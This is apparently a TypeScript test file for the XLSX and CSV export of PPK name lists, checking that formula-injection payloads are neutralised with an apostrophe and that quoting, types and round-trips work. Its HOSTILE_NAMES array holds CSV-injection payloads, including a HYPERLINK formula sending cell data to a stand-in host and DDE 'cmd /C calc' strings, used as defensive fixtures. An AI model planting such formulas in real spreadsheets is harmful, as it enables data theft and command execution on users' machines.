import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { checkPpkFile } from '../../../src/files/ppk/check-ppk-file.js';
import type { PpkCheckResult } from '../../../src/files/ppk/check-ppk-file.js';
import {
  csvField,
  exportCsv,
  exportCsvText,
  exportXlsx,
  neutraliseCell,
  ppkEntriesTable,
} from '../../../src/files/ppk/export.js';
import type { ExportTable } from '../../../src/files/ppk/export.js';
import type { PpkEntry } from '../../../src/files/ppk/types.js';
import { HEADERS, OPTIONS, makeXlsx, toArrays, validRows } from './ppk-fixtures.js';

async function validEntries(): Promise<PpkEntry[]> {
  const result: PpkCheckResult = await checkPpkFile(
    await makeXlsx({ headers: HEADERS, rows: toArrays(validRows()) }),
    undefined,
    undefined,
    OPTIONS,
  );
  if (!result.valid) throw new Error('fixture list should be valid');
  return result.entries;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

async function readXlsx(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  const sheet = workbook.worksheets[0];
  if (sheet === undefined) throw new Error('no sheet');
  return sheet;
}

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+6281234567890', "'+6281234567890"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['Budi', 'Budi'],
    ['Budi = Santoso', 'Budi = Santoso'],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });
});

describe('csvField', () => {
  it.each([
    ['plain', ',', 'plain'],
    ['Budi, S.Kom.', ',', '"Budi, S.Kom."'],
    ['Budi, S.Kom.', ';', 'Budi, S.Kom.'],
    ['a;b', ';', '"a;b"'],
    ['Budi "Ucok" Santoso', ',', '"Budi ""Ucok"" Santoso"'],
    ['dua\nbaris', ',', '"dua\nbaris"'],
    [' spasi ', ',', '" spasi "'],
  ])('%j with %j → %j', (text, delimiter, field) => {
    expect(csvField(text, delimiter)).toBe(field);
  });
});

describe('export of a PPK list with formulas planted in names', () => {
  async function hostileEntries(): Promise<PpkEntry[]> {
    const entries = await validEntries();
    return HOSTILE_NAMES.map((name, i) => ({
      ...(entries[i % entries.length] as PpkEntry),
      name,
      rowNumber: i + 2,
    }));
  }

  it('writes XLSX where every planted formula is inert text and numbers stay numbers', async () => {
    const entries = await hostileEntries();
    const sheet = await readXlsx(await exportXlsx(ppkEntriesTable(entries)));
    expect(sheet.getRow(1).values).toEqual([undefined, ...HEADERS]);
    HOSTILE_NAMES.forEach((name, i) => {
      const row = sheet.getRow(i + 2);
      const cell = row.getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML stores a bare carriage return as a line feed; the apostrophe in front is what matters.
      expect(cell.value).toBe(`'${name}`.replace(/\r/g, '\n'));
      expect(row.getCell(1).value).toBe(entries[i]?.nip); // NIP stays text, all 18 digits
      expect(row.getCell(6).value).toMatch(/^08\d+$/); // phone as 08…, no formula trigger
    });
    const pagu = sheet.getRow(2).getCell(9);
    expect(pagu.type).toBe(ExcelJS.ValueType.Number);
    expect(pagu.value).toBe(entries[0]?.pagu);
    expect(sheet.getRow(2).getCell(10).value).toBe(2025);
  });

  it('writes CSV where every planted formula is prefixed, quoted correctly, with BOM and CRLF', async () => {
    const entries = await hostileEntries();
    const bytes = exportCsv(ppkEntriesTable(entries));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text).toContain('\r\n');
    const records = parse(text, { bom: true });
    expect(records[0]).toEqual(HEADERS);
    expect(records.slice(1).map((record) => record[1])).toEqual(HOSTILE_NAMES.map((name) => `'${name}`));
    for (const record of records.slice(1)) {
      for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('round-trips: an exported list uploads again as the same entries, hostile names included', async () => {
    const entries = await validEntries();
    const withFormulaName = entries.map((entry, i) => (i === 0 ? { ...entry, name: '=Budi' } : entry));
    for (const bytes of [
      await exportXlsx(ppkEntriesTable(withFormulaName)),
      exportCsv(ppkEntriesTable(withFormulaName)),
    ]) {
      const result = await checkPpkFile(bytes, undefined, undefined, OPTIONS);
      if (!result.valid) throw new Error(JSON.stringify(result.errors));
      expect(result.entries).toEqual(withFormulaName);
    }
  });
});

describe('export of any table', () => {
  const table: ExportTable = {
    sheetName: 'Register: unit/satker?',
    columns: [
      { key: 'text', header: 'Teks' },
      { key: 'amount', header: 'Jumlah', numFmt: '#,##0' },
      { key: 'big', header: 'Besar' },
      { key: 'date', header: 'Tanggal' },
      { key: 'flag', header: 'Aktif' },
      { key: 'none', header: '=Kosong' },
    ],
    rows: [
      {
        text: '@evil',
        amount: -1500,
        big: 12_345_678_901_234_567_890n,
        date: new Date(Date.UTC(2025, 0, 2)),
        flag: true,
        none: null,
      },
    ],
  };

  it('keeps types in XLSX and neutralises headers too', async () => {
    const sheet = await readXlsx(await exportXlsx(table));
    expect(sheet.name).toBe('Register  unit satker');
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe("'@evil");
    expect(row.getCell(2).value).toBe(-1500);
    expect(row.getCell(3).value).toBe('12345678901234567890');
    expect(row.getCell(4).value).toEqual(new Date(Date.UTC(2025, 0, 2)));
    expect(row.getCell(5).value).toBe(true);
    expect(row.getCell(6).value).toBeNull();
    expect(sheet.getRow(1).getCell(6).value).toBe("'=Kosong");
  });

  it('writes numbers as numbers in CSV (a negative number is not text to neutralise)', () => {
    expect(exportCsvText(table)).toBe(
      "Teks,Jumlah,Besar,Tanggal,Aktif,'=Kosong\r\n'@evil,-1500,12345678901234567890,2025-01-02,TRUE,\r\n",
    );
    expect(exportCsvText(table, { delimiter: ';' })).toContain("'@evil;-1500;");
  });

  it('can leave out the byte-order mark', () => {
    expect([...exportCsv(table, { bom: false }).subarray(0, 4)]).toEqual([...Buffer.from('Teks')]);
  });
});
